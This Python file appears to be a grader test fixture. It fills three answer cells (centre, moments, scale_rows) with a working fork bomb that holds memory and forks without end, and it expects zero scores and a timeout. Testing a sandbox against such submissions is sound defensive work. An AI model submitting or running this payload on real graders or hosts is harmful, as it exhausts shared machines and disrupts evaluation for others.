"""Forks until it can't in three questions, so that whoever watches its processes is busy with it."""

EXPECT = {"q1": 0, "q2": 0, "q3": 0}
STATUS = "timed out"
BOMB = """
import os

def {name}(*args):
    kept = bytearray(8 * 2**20)
    while True:
        try:
            os.fork()
        except OSError:
            kept[::4096] = bytes(2048)
"""
NAMES = {
    "q1_centre": "centre",
    "q2_moments": "moments",
    "q3_rows": "scale_rows",
}
ANSWERS = {cell: BOMB.format(name=name) for cell, name in NAMES.items()}
